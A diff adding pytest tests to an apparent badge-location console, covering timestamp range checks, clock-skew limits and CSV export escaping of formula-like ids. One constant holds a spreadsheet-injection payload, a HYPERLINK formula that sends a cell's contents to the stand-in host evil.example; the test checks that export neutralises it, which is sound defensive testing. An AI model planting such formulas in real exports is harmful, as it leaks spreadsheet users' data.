@@ -436,6 +436,136 @@ def test_export_leaves_out_cancelled_open_and_earlier(ini, engine, tmp_path, cap
     assert "no site 'nowhere'" in capsys.readouterr().err
 
 
+def test_timestamps_outside_1970_to_2999_are_row_errors(ini, engine, tmp_path, capsys):
+    # Near datetime's limit the run's end (last row + 1 s) used to overflow:
+    # a traceback, exit 1, and the chunk lost.
+    add_site(engine, rooms=[("kitchen", "Kitchen"), ("lounge", "Lounge")])
+    path = write(
+        tmp_path,
+        HEADER
+        + f"{iso(0)},b1,kitchen,-60,\n"  # 2
+        + "9999-12-31T23:59:59Z,b2,kitchen,-60,\n"  # 3
+        + "9999-12-31T23:59:59.5Z,b2,lounge,-60,\n"  # 4
+        + "3000-01-01T00:00:00Z,b1,kitchen,-60,\n"  # 5
+        + "1969-12-31T23:59:59Z,b1,kitchen,-60,\n"  # 6
+        + f"{iso(1)},b1,kitchen,-60,\n",  # 7
+    )
+    assert imported(ini, path, "--site", "home") == 0
+    out = capsys.readouterr().out
+    assert "errors: 4" in out
+    assert (
+        "line 3: timestamp: '9999-12-31T23:59:59Z' is outside the years 1970-2999"
+        in out
+    )
+    for line in (4, 5, 6):
+        assert f"line {line}: timestamp: " in out
+    assert readings(engine) == [
+        ("b1", at(0), "import", (("a", -60),)),
+        ("b1", at(1), "import", (("a", -60),)),
+    ]
+    assert runs(engine) == [("b1", "kitchen", at(0), at(2), "import", "console:matron")]
+
+
+def test_rows_later_than_the_clock_skew_allows_are_row_errors(
+    ini, engine, tmp_path, capsys
+):
+    # As for live readings (stethoscope.ingest.max_clock_skew_s, 300 s): an
+    # imported run ending in the future would block the badge's live runs.
+    add_site(engine)
+    now = datetime.datetime.now(UTC).replace(microsecond=0)
+    soon, later = (
+        now + datetime.timedelta(seconds=60),
+        now + datetime.timedelta(hours=1),
+    )
+    stamp = lambda moment: moment.isoformat().replace("+00:00", "Z")  # noqa: E731
+    path = write(
+        tmp_path,
+        HEADER + f"{stamp(soon)},b1,kitchen,-60,\n{stamp(later)},b2,kitchen,-60,\n",
+    )
+    assert imported(ini, path, "--site", "home") == 0
+    out = capsys.readouterr().out
+    assert (
+        f"line 3: timestamp: {stamp(later)} is in the future; check the "
+        "recording's clock" in out
+    )
+    assert [r[:2] for r in readings(engine)] == [("b1", soon)]
+    assert [r[:4] for r in runs(engine)] == [
+        ("b1", "kitchen", soon, soon + datetime.timedelta(seconds=1))
+    ]
+
+    # The bound is the server's setting.
+    with open(ini, "a") as handle:
+        handle.write("stethoscope.ingest.max_clock_skew_s = 7200\n")
+    assert imported(ini, path, "--site", "home") == 0
+    assert "errors: 0" in capsys.readouterr().out
+    assert [r[:2] for r in readings(engine)] == [("b1", soon), ("b2", later)]
+
+
+# Gateways post badge and beacon ids of any printable ASCII; room ids are
+# chosen by an admin. Each of these would be a formula in a spreadsheet.
+FORMULA_BADGE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+FORMULA_IDS = [FORMULA_BADGE, "-2+3", "'@x", "+1"]
+
+
+def test_export_writes_formula_ids_as_text_and_imports_them_back(
+    ini, engine, fresh_url, tmp_path, capsys
+):
+    add_site(engine, rooms=[("=1+1", "Kitchen")])
+    with Session(engine) as session, session.begin():
+        for second, badge in enumerate(FORMULA_IDS):
+            session.add(
+                Reading(
+                    badge_id=badge,
+                    gateway_id="g",
+                    received_at=at(second),
+                    observed_at=at(second),
+                    beacons={"@SUM(9)": -70, "plain": -60},
+                    fingerprint="f",
+                )
+            )
+            session.add(
+                TrainingRun(
+                    badge_id=badge,
+                    room_id="=1+1",
+                    started_at=at(second),
+                    ended_at=at(second + 1),
+                    created_by="x",
+                )
+            )
+    export = tmp_path / "export.csv"
+    assert labelled_export.main([ini, str(export)]) == 0
+    text = export.read_text()
+    assert "'=HYPERLINK(" in text
+    with open(export, newline="") as handle:
+        cells = list(csv.reader(handle))
+    # Ordered by badge: ' (39) < + (43) < - (45) < = (61).
+    assert cells == [
+        ["timestamp", "badge_id", "room", "'@SUM(9)", "plain"],
+        [iso(2), "''@x", "'=1+1", "-70", "-60"],
+        [iso(3), "'+1", "'=1+1", "-70", "-60"],
+        [iso(1), "'-2+3", "'=1+1", "-70", "-60"],
+        [iso(0), "'" + FORMULA_BADGE, "'=1+1", "-70", "-60"],
+    ]
+
+    second = tmp_path / "second.ini"
+    second.write_text(CONSOLE_INI.format(url=fresh_url, models=tmp_path / "models"))
+    fresh = create_engine(fresh_url)
+    try:
+        add_site(fresh, rooms=[("=1+1", "Kitchen")])
+        assert imported(str(second), str(export), "--site", "home") == 0
+        assert "errors: 0" in capsys.readouterr().out
+        assert readings(fresh) == sorted(
+            (badge, at(s), "import", (("@SUM(9)", -70), ("plain", -60)))
+            for s, badge in enumerate(FORMULA_IDS)
+        )
+        assert runs(fresh) == sorted(
+            (badge, "=1+1", at(s), at(s + 1), "import", "console:matron")
+            for s, badge in enumerate(FORMULA_IDS)
+        )
+    finally:
+        fresh.dispose()
+
+
 class Terminal:
     def __init__(self):
         self.text = ""
